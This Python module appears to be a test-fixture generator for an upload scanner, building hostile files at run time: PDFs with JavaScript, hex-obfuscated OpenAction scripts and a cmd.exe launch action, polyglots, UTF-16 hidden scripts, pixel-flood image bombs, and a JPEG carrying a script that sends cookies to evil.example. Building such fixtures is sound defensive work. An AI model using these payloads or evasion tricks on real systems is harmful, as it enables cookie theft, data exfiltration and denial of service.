"""Hostile and borderline files, generated (nothing binary is committed).

Every builder returns bytes. The EICAR test string is put together at run time
so that no scanner on a developer's machine flags this source file.
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

from fpdf import FPDF
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

_EICAR_PARTS = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!", "$H+H*")


def eicar() -> bytes:
    return "".join(_EICAR_PARTS).encode("ascii")


def eicar_hdb_line() -> str:
    """A ClamAV hash signature (``.hdb``: md5:size:name) for the EICAR file."""
    data = eicar()
    return f"{hashlib.md5(data).hexdigest()}:{len(data)}:Eicar-Test-Signature\n"  # noqa: S324 (ClamAV's format)


def pdf(text: str = "Kontoauszug März 2026") -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text=text.encode("latin-1", "replace").decode("latin-1"))
    return bytes(document.output())


def padded_pdf(size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes (a comment line before the end)."""
    base = pdf()
    marker = b"%%EOF"
    head, _sep, _tail = base.rpartition(marker)
    filler = size - len(base) - 2  # "%" + "\n"
    assert filler >= 0, "size below the smallest PDF"
    return head + b"%" + b"x" * filler + b"\n" + marker + _tail


def _pypdf_document(mutate) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    mutate(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript (/Names /JavaScript), as fillable forms carry."""

    def mutate(writer: PdfWriter) -> None:
        action = writer._add_object(
            DictionaryObject(
                {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1);")}
            )
        )
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), action])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})

    return _pypdf_document(mutate)


def pdf_with_open_action_script() -> bytes:
    """JavaScript run on opening (/OpenAction), names hex-obfuscated in the raw bytes."""

    def mutate(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("this.exportDataObject({cName: 'x', nLaunch: 2});"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    raw = _pypdf_document(mutate)
    # Hide the names from a naive byte search: /J#53 is /JS, /Java#53cript is /JavaScript.
    return raw.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS ", b"/J#53 ")


def pdf_with_open_action_destination() -> bytes:
    """A harmless /OpenAction: open at page 1, fit to window (common in office exports)."""

    def mutate(writer: PdfWriter) -> None:
        page = writer.pages[0].indirect_reference
        writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])

    return _pypdf_document(mutate)


def pdf_with_launch() -> bytes:
    def mutate(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return _pypdf_document(mutate)


def pdf_with_embedded_file() -> bytes:
    return _pypdf_document(lambda w: w.add_attachment("rechnung.exe", b"MZ" + b"\x00" * 64))


def elf_renamed() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200


def pe_renamed() -> bytes:
    dos = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\x00" * 2)
    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x80)
    dos += b"\x00" * (0x80 - len(dos))
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<H", 0x8664) + b"\x00" * 200


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", "<script>alert(document.cookie)</script>")
    return out.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF that is also a valid ZIP (the archive appended after %%EOF)."""
    return pdf() + zip_archive()


def pdf_html_polyglot() -> bytes:
    """Starts as a PDF, but a browser sniffing it finds a page with a script."""
    return b"%PDF-1.4\n<html><body><script>fetch('/api/v1/me/')</script></body></html>\n" + pdf()[9:]


def pdf_with_img_onerror() -> bytes:
    """No script tag, no ``javascript:``: an image whose error handler runs the script."""
    return b"%PDF-1.4\n<img src=x onerror=\"fetch('/api/v1/me/')\">\n" + pdf()[9:]


def pdf_with_utf16_script(encoding: str) -> bytes:
    """A page with a script in UTF-16 (``utf-16-le`` or ``utf-16-be``), which a byte search
    for ``<script`` does not see but a browser sniffing the encoding runs."""
    page = "<html><body><script>fetch('/api/v1/me/')</script></body></html>".encode(encoding)
    return pdf() + b"\n%" + page + b"\n"


def jpeg(width: int = 32, height: int = 32) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 180, 40)).save(out, "JPEG")
    return out.getvalue()


def jpeg_with_script() -> bytes:
    return jpeg() + b"<script>document.location='https://evil.example/?'+document.cookie</script>"


def png(width: int = 16, height: int = 16) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(out, "PNG")
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_pixel_flood(width: int = 100_000, height: int = 100_000) -> bytes:
    """A few hundred bytes that declare 10 gigapixels (30 GB once decoded): the
    first rows compress to almost nothing."""
    rows = zlib.compress(b"\x00" + b"\x00" * (width * 3), 9)  # one black row; the rest is missing
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")


def jpeg_pixel_flood() -> bytes:
    """A real JPEG whose frame header is rewritten to 65000 x 65000."""
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


HTML = b"<!doctype html><html><body><script>fetch('/api/v1/me/data-export/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
